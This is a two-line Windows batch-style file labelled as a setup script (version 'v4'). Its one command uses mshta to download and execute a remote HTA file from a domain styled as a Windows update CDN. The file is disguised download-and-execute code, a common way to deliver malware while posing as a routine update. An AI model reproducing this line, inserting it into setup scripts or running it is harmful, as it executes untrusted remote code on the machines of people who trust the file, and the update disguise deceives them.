REM setup 8072 v4
mshta http://dl.winupdate-cdn.example/update.hta
